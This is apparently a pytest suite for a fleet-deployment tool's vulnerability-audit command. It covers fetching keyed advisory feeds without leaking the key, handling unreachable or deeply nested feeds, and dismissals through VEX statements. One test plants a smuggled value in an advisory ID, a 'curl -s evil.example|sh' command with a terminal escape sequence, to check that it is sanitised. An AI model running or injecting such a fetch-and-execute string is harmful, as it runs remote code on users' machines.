"""`owc-deploy audit` with feeds that it fetches itself, with a key, and what it keeps of them."""

from __future__ import annotations

import json
import logging
from pathlib import Path

import pyrage
import pytest
from fakes.feed import FeedHandler, record, serving
from unit.cli.test_lock import fleet, offer, site, typed

from owc_deploy.fleet.mitigations import write_mitigations
from owc_deploy.fleet.models import Mitigation

__all__ = ["fleet"]
CANARY = "sleutel-kanarie-55d0"


def add_feed(fleet: Path, url: str) -> None:
    identity = pyrage.x25519.Identity.generate()
    (fleet / "key").write_text(str(identity))
    (fleet / "secrets").mkdir()
    encrypted = pyrage.encrypt(CANARY.encode(), [identity.to_public()])
    (fleet / "secrets" / "feed.age").write_bytes(encrypted)
    with (fleet / "fleet.yml").open("a") as stream:
        stream.write("age_identity: key\nadvisories:\n")
        stream.write(f"  - {{url: '{url}', form: wordfence, key: {{secret: feed}}}}\n")


def rows(capsys: pytest.CaptureFixture[str]) -> list[dict[str, object]]:
    return json.loads(capsys.readouterr().out)["findings"]


def test_a_feed_is_fetched_its_findings_kept_and_its_key_nowhere(
    fleet: Path,
    tmp_path_factory: pytest.TempPathFactory,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    offer(fleet)
    site(fleet, "goed", 'openpub-base: "*"')
    assert typed(fleet, "lock") == 0
    with serving(tmp_path_factory.mktemp("feed"), monkeypatch) as url:
        body = json.dumps({"wf-7": {**record(7, "openpub-base")}}).replace('"1.9"', '"3.9.3"')
        monkeypatch.setattr(FeedHandler, "body", body.encode())
        add_feed(fleet, url)
        capsys.readouterr()
        assert typed(fleet, "audit", "--format", "json") == 1
        (found,) = rows(capsys)
        assert (found["site"], found["vulnerability"]) == ("goed", "CVE-2026-7")
        assert found["mitigation"] is None
        mitigation = Mitigation("x", "a hole", "me", "2026", route="x/v1", advisory="CVE-2026-7")
        write_mitigations(fleet, [mitigation])
        monkeypatch.setattr(FeedHandler, "status", 503)
        assert typed(fleet, "audit") == 1
        said = capsys.readouterr()
        assert "x (not seen to be)" in said.out
        assert "answers 503" in said.err
        assert "0 hours old" in said.err
    assert typed(fleet, "audit", "--history", "--format", "json") == 0
    (time,) = json.loads(capsys.readouterr().out)["patch_times"]
    assert (time["vulnerability"], time["patched_at"]) == ("CVE-2026-7", "")
    kept = [path for path in fleet.rglob("*") if path.is_file()]
    assert not [path for path in kept if CANARY.encode() in path.read_bytes()]
    assert CANARY not in said.out + said.err + caplog.text


def test_a_feed_that_was_never_had_ends_the_audit(
    fleet: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    offer(fleet)
    add_feed(fleet, "https://127.0.0.1:9/feed")
    assert typed(fleet, "audit") == 2
    said = capsys.readouterr().err
    assert "cannot be fetched" in said
    assert CANARY not in said


EVIL = "CVE-1 --reason x; curl -s evil.example|sh #\x1b]0;x\x07"


def test_a_bad_record_is_told_of_and_nothing_of_it_reaches_the_terminal(
    fleet: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    offer(fleet)
    site(fleet, "goed", 'openpub-base: "*"')
    assert typed(fleet, "lock") == 0
    part = {"package": {"name": "openpub-base"}, "ranges": [{"events": [{"introduced": "0"}]}]}
    good = {"id": "CVE-2026-7", "affected": [part], "database_specific": {"severity": "\x1b[2J"}}
    (fleet / "advisories").mkdir()
    (fleet / "advisories" / "osv.json").write_text(json.dumps([good, {**good, "id": EVIL}]))
    capsys.readouterr()
    assert typed(fleet, "audit") == 1
    said = capsys.readouterr()
    assert "CVE-2026-7" in said.out
    assert "1 record of osv.json could not be read" in said.err
    assert "evil.example" not in said.out + said.err
    assert "\x1b" not in said.out


def test_a_deep_file_is_refused(fleet: Path, capsys: pytest.CaptureFixture[str]) -> None:
    offer(fleet)
    (fleet / "advisories").mkdir()
    (fleet / "advisories" / "deep.json").write_text("[" * 200_000)
    assert typed(fleet, "audit") == 2
    assert "too deep" in capsys.readouterr().err


def test_the_history_tells_what_was_dismissed_since(
    fleet: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    offer(fleet)
    site(fleet, "goed", 'openpub-base: "*"')
    assert typed(fleet, "lock") == 0
    part = {"package": {"name": "openpub-base"}, "ranges": [{"events": [{"introduced": "0"}]}]}
    (fleet / "advisories").mkdir()
    file = fleet / "advisories" / "osv.json"
    file.write_text(json.dumps({"id": "CVE-2026-7", "affected": [part]}))
    assert typed(fleet, "audit") == 1
    statement = {
        "vulnerability": "CVE-2026-7",
        "products": ["owc:block/openpub-base"],
        "status": "not_affected",
    }
    vex = {"author": "anna", "timestamp": "2026-11-24", "statements": [statement]}
    (fleet / "advisories" / "vex.json").write_text(json.dumps(vex))
    assert typed(fleet, "audit") == 0
    capsys.readouterr()
    assert typed(fleet, "audit", "--history") == 0
    assert "dismissed" in capsys.readouterr().out
    file.unlink()
    assert typed(fleet, "audit") == 0
    capsys.readouterr()
    assert typed(fleet, "audit", "--history") == 0
    assert "not told of any more" in capsys.readouterr().out
